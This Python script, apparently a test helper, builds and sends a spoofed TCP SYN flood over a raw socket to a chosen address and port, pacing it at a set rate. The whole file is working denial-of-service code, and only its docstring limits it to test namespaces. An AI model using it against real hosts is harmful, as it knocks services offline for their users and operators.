#!/usr/bin/python3
"""Spoofed SYN flood for tests: raw Ethernet frames on one interface.

usage: synflood.py IFACE DST_MAC DST_IP PORT COUNT [SEED] [RATE]

Sends COUNT SYNs to DST_IP:PORT from random source addresses in DST_IP's /24
(hosts .3-.254, which do not exist, so they never answer ARP or the SYN-ACK)
and random ports, with Linux's SYN options (MSS 1460, SACK-permitted,
timestamps, window scale 7). Frames are built before the first is sent;
RATE (frames/s, 0 = as fast as the socket takes them) paces them. Prints
"sending" when the first goes out and "sent N in S s" after the last. Only for namespaces a test created.
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def frame(smac, dmac, src, dst, sport, dport, seq, tsval):
    opts = struct.pack('!BBH', 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack('!II', tsval, 0) + bytes([1, 3, 3, 7])
    thl = 20 + len(opts)
    tcp = struct.pack('!HHIIBBHHH', sport, dport, seq, 0, (thl // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return dmac + smac + b'\x08\x00' + ip + tcp


def main():
    iface, dmac_s, dst_s, port, count = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), int(sys.argv[5])
    seed = int(sys.argv[6]) if len(sys.argv) > 6 else 1
    rate = float(sys.argv[7]) if len(sys.argv) > 7 else 0.0
    rnd = random.Random(seed)
    smac = bytes.fromhex(open('/sys/class/net/%s/address' % iface).read().strip().replace(':', ''))
    dmac = bytes.fromhex(dmac_s.replace(':', ''))
    dst = socket.inet_aton(dst_s)
    net = dst[:3]
    frames = []
    for _ in range(count):
        src = net + bytes([rnd.randint(3, 254)])
        frames.append(frame(smac, dmac, src, dst, rnd.randint(1024, 65535), port, rnd.getrandbits(32), rnd.getrandbits(32)))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    print('sending', flush=True)
    t0 = time.monotonic()
    sent = 0
    for i, f in enumerate(frames):
        if rate > 0:
            due = t0 + i / rate
            now = time.monotonic()
            if due > now:
                time.sleep(due - now)
        while True:
            try:
                s.send(f)
                break
            except BlockingIOError:
                time.sleep(0.0001)
            except OSError:
                time.sleep(0.0001)
        sent += 1
    print('sent %d in %.3f s' % (sent, time.monotonic() - t0), flush=True)


if __name__ == '__main__':
    main()
